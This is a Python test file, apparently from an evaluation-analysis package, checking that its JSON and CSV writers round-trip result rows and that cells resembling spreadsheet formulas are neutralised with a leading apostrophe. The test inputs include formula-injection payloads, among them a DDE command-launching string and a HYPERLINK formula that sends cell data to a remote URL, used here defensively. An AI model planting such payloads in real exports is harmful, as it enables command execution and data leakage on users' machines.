"""Rows as text: what is written is what is read back, in JSON and in CSV."""

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lm_eval_safescale.analysis.writing import as_csv, as_json

TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"])) | st.sampled_from(
    ['a "b", c', "two\nlines", "null", ",", "=1+1", "-a"]
)
NUMBERS = st.integers(-(10**9), 10**9) | st.floats(allow_nan=False, allow_infinity=False)
NAMES = ("model", "n", "what, else", "why")
ROWS = st.lists(
    st.tuples(TEXTS, NUMBERS, st.none() | NUMBERS, st.none() | TEXTS).map(
        lambda row: dict(zip(NAMES, row, strict=True))
    )
)


def inert(text: str) -> str:
    return f"'{text}" if re.match("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", text) else text


@given(ROWS)
def test_json_gives_back_the_rows(rows):
    assert json.loads(as_json(rows)) == rows


@given(ROWS)
def test_csv_gives_back_the_same_numbers_and_texts_and_an_empty_cell_for_none(rows):
    read = list(csv.DictReader(io.StringIO(as_csv(rows, NAMES), newline="")))
    expected = [
        {
            "model": inert(row["model"]),
            "n": row["n"],
            "what, else": "" if row["what, else"] is None else row["what, else"],
            "why": inert(row["why"] or ""),
        }
        for row in rows
    ]
    for row in read:
        row["n"] = float(row["n"])
        row["what, else"] = float(row["what, else"]) if row["what, else"] else ""
    assert read == expected


def test_numbers_have_the_same_digits_in_both():
    row = {"p": 1.0289941458812896e-07, "n": 3, "delta": -0.1}
    assert as_csv([row], tuple(row)).splitlines()[1].split(",") == [
        text.split(":")[1] for text in as_json([row])[3:-4].split(",")
    ]


def test_no_rows_are_an_empty_list_and_a_line_of_columns():
    assert (as_csv([], NAMES), as_json([])) == ('model,n,"what, else",why\n', "[]\n")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        '=HYPERLINK("http://x?"&A1)',
    ],
)
def test_a_text_that_begins_as_a_formula_does_is_behind_an_apostrophe(text):
    """In names of columns too; a number below 0 is none."""
    (names, cells) = csv.reader(
        io.StringIO(as_csv([{text: text, "n": -0.5, "e": -1e-9}], ()), newline="")
    )
    assert names == [f"'{text}", "n", "e"]
    assert cells == [f"'{text}", "-0.5", "-1e-9"]
    (_, mixed, number) = csv.reader(io.StringIO(as_csv([{"x": text}, {"x": -0.5}], ()), newline=""))
    assert (mixed, number) == ([f"'{text}"], ["-0.5"])


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_cell_of_a_text_begins_as_a_formula_does(text):
    for name, rows in ((text, [{"x": 1.5}]), ("x", [{"x": text}])):
        for cell in (
            each
            for row in csv.reader(io.StringIO(as_csv(rows, [name]), newline=""))
            for each in row
        ):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
